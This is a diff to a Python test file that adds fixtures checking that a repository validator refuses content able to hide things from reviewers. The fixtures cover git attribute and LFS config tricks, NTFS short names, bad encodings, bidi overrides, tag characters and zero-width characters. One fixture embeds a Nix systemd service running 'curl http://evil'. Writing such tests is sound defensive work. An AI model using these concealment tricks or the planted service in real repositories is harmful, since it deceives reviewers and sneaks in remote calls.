@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import os
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 
 from tests.helpers.git_repos import AGENT_FILES, AgentRepositories, git
@@ -223,6 +223,104 @@ def _prompt(data: bytes) -> Make:
     )
 
 
+@dataclass(frozen=True)
+class Content:
+    """Files that must be refused with this code, and with these words in the message; or taken, if there is no code."""
+
+    name: str
+    files: Mapping[str, bytes]
+    code: str = ""
+    words: str = ""
+
+    def make(self, repositories: AgentRepositories) -> str:
+        """Make a commit of the usual files with these, some of which are in directories."""
+        found = {name: text.encode() for name, text in AGENT_FILES.items()} | dict(self.files)
+        tops = [("100644", repositories.blob(data), path) for path, data in found.items() if "/" not in path]
+        for path, data in found.items():
+            top, _, name = path.partition("/")
+            if name:
+                tops.append(("40000", repositories.tree([("100644", repositories.blob(data), name)]), top))
+        return repositories.commit_tree(repositories.tree(tops))
+
+
+def _toml(text: str) -> dict[str, bytes]:
+    return {"agent.toml": f'backend = "scripted"\n{text}\n'.encode()}
+
+
+_EVIL = "{ systemd.services.evil.script = ''curl http://evil''; }"
+_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe"
+_PNG_ALLOWED = {**_toml('binary_files = ["assets/*.png"]'), "assets/logo.png": _PNG}
+REFUSED_CONTENTS = [
+    Content("attributes that substitute", {".gitattributes": b"*.nix export-subst\n"}, "bad_tree", "one of git's own"),
+    Content("attributes that leave out", {"sub/.gitattributes": b"* export-ignore\n"}, "bad_tree", "'.gitattributes'"),
+    Content("attributes with a filter", {".GitAttributes": b"* filter=x diff=x merge=x\n"}, "bad_tree", "git's own"),
+    Content("attributes in wide letters", {".\uff47itattributes": b"* -diff\n"}, "bad_tree", "one of git's own"),
+    Content("short name of attributes", {"GITATT~1": b"* -diff\n"}, "bad_tree", "one of git's own"),
+    Content("hashed short name of attributes", {"gi7d29~1": b"* -diff\n"}, "bad_tree", "one of git's own"),
+    Content("stream of attributes", {".gitattributes:x": b"* -diff\n"}, "bad_tree", "one of git's own"),
+    Content("list of submodules", {".gitmodules": b""}, "bad_tree", "one of git's own"),
+    Content("settings of git-lfs", {".lfsconfig": b"[lfs]\nurl = http://evil\n"}, "bad_tree", "one of git's own"),
+    Content("names of authors", {".mailmap": b"The operator <operator@hive> <ada@x>\n"}, "bad_tree", "git's own"),
+    Content(
+        "NUL in agent.nix", {"agent.nix": b"{ }\n# \0\n"}, "bad_text", "'agent.nix', line 2: the character U+0000 (NUL)"
+    ),
+    Content("NUL in another file", {"notes.txt": b"a\0b"}, "bad_text", "'notes.txt', line 1: the character U+0000"),
+    Content("NUL at the end of a large file", {"z.txt": b"x\n" * 500_000 + b"\0"}, "bad_text", "line 500001"),
+    Content(
+        "NUL in agent.toml", {"agent.toml": b"# \0\n"}, "bad_agent_toml", "agent.toml, line 1: the character U+0000"
+    ),
+    Content("UTF-16 with its mark", {"module.nix": _EVIL.encode("utf-16")}, "bad_text", "line 1: not valid UTF-8"),
+    Content("UTF-16 without a mark", {"module.nix": _EVIL.encode("utf-16-le")}, "bad_text", "U+0000"),
+    Content("UTF-32", {"notes.txt": _EVIL.encode("utf-32-be")}, "bad_text", "U+0000"),
+    Content("UTF-7 beside Latin-1", {"notes.txt": b"+ADs-\n\xe9t\xe9\n"}, "bad_text", "line 2: not valid UTF-8"),
+    Content("overlong newline", {"notes.txt": b"a\n\xc0\x8a"}, "bad_text", "line 2: not valid UTF-8"),
+    Content("surrogate", {"notes.txt": b"\xed\xa0\x80"}, "bad_text", "line 1: not valid UTF-8"),
+    Content("character that is cut off", {"notes.txt": b"a\xe2\x82"}, "bad_text", "line 1: not valid UTF-8"),
+    Content("byte order mark in Nix code", {"agent.nix": b"\xef\xbb\xbf{ }\n"}, "bad_text", "U+FEFF"),
+    Content("byte order mark in agent.toml", {"agent.toml": b"\xef\xbb\xbf# x\n"}, "bad_agent_toml", "U+FEFF"),
+    Content("undeclared picture", {"assets/logo.png": _PNG}, "bad_text", "'assets/logo.png', line 1: not valid UTF-8"),
+    Content("picture elsewhere", {**_PNG_ALLOWED, "logo.png": _PNG}, "bad_text", "'logo.png', line 1"),
+    Content(
+        "Nix code as a declared file",
+        {**_toml('binary_files = ["assets/**/*.png", "*.x"]'), "a.nix": b"\0", "b.x": b"\0"},
+        "bad_text",
+        "'a.nix', line 1",
+    ),
+    Content("Nix code by a pattern", _toml('binary_files = ["*.nix"]'), "bad_agent_toml", "Nix code are always text"),
+    Content("every file by a pattern", _toml('binary_files = ["**"]'), "bad_agent_toml", "a suffix without wildcards"),
+    Content("any ending by a pattern", _toml('binary_files = ["a.[!x]*"]'), "bad_agent_toml", "without wildcards"),
+    Content("lone CR ends a comment", {"agent.nix": b"# made by hand\r" + _EVIL.encode()}, "bad_text", "U+000D"),
+    Content("lone CR in a text", {"notes.txt": b"a\r\nb\rc\n"}, "bad_text", "'notes.txt', line 2"),
+    Content("CR at the very end", {"notes.txt": b"a\n\r"}, "bad_text", "line 2: the character U+000D"),
+    Content("line separator", {"notes.txt": "# a\u2028b".encode()}, "bad_text", "U+2028 (line separator)"),
+    Content("next line", {"notes.txt": "# a\x85b".encode()}, "bad_text", "U+0085"),
+    Content("form feed", {"notes.txt": b"# a\x0cb"}, "bad_text", "U+000C (form feed)"),
+    Content("terminal escape", {"notes.txt": b"# a\x1b[2Jb"}, "bad_text", "U+001B (escape)"),
+    Content("override in Nix code", {"agent.nix": "# \u202e } {\n{ }\n".encode()}, "bad_text", "U+202E"),
+    Content("isolate in a text", {"notes.txt": "\u2066admin\u2069".encode()}, "bad_text", "U+2066"),
+    Content("override in prompt.md", {"prompt.md": "a\n\u202eb".encode()}, "bad_prompt", "prompt.md, line 2"),
+    Content("text of tags", {"prompt.md": "You help.\U000e0041\U000e0042".encode()}, "bad_prompt", "U+E0041"),
+    Content("empty Braille pattern", {"agent.nix": "{ a\u2800 = 1; }\n".encode()}, "bad_text", "U+2800"),
+    Content("Hangul filler", {"a.nix": "x: \u3164: x\n".encode()}, "bad_text", "U+3164 (hangul filler)"),
+    Content("variation selector", {"A.NIX": "x: a\ufe0f: x\n".encode()}, "bad_text", "U+FE0F"),
+    Content("zero width space", {"agent.toml": "# a\u200bb\n".encode()}, "bad_agent_toml", "U+200B"),
+    Content("joiner between letters", {"agent.nix": "{ a\u200d = 1; }\n".encode()}, "bad_text", "U+200D"),
+    Content("joiner at the very end", {"agent.nix": "{ } # é\u200d".encode()}, "bad_text", "U+200D"),
+]
+"""Content that hides something from a reviewer, or that a reviewer and Nix read differently."""
+TAKEN_CONTENTS = [
+    Content("declared picture", _PNG_ALLOWED),
+    Content("CR LF", {"agent.nix": b"{ }\r\n# a\r\n", "prompt.md": b"a\r\nb\r\n"}),
+    Content("emoji and scripts", {"agent.nix": "# ⚠️ 👩\u200d💻 1️⃣ \u0645\u06cc\u200c\u062e 日本語\n{ }\n".encode()}),
+    Content("signs of width 0 in a text", {"prompt.md": "a\u200bb \u2800\u3164 \ufeff x\ufe0f \u200e\n".encode()}),
+    Content("empty files", {"a.nix": b"", "b.txt": b"", "prompt.md": b""}),
+    Content("large text that sorts first", {"a.txt": ("ü" * 79 + "\n").encode() * 12_000}),
+    Content("many files that sort first", {f"a{n:03}": b"x" * 10_000 for n in range(300)}),
+    Content("one line of a mebibyte", {"a.txt": ("ü\u200b" * 200_000).encode()}),
+    Content("git's other names", {".gitignore": b"*.o\n", "gitattributes": b"", "mailmap": b""}),
+]
+"""Content that is taken, and that a review must show in whole and escaped."""
+
 _LONG = ["d" * 199] * 20
 _SUBMODULE = "160000", "1" * 40, "sub"
 CASES = [
@@ -324,4 +422,5 @@ CASES = [
     Case("beside what is deployed", _beside, "not_rebased", "does not build on"),
     Case("no repository", _no_repository, "no_repository", ".git/objects is missing"),
     Case("empty repository", _empty_repository, "no_such_commit", "has no commit 1111"),
+    *(Case(content.name, content.make, content.code, content.words) for content in REFUSED_CONTENTS),
 ]
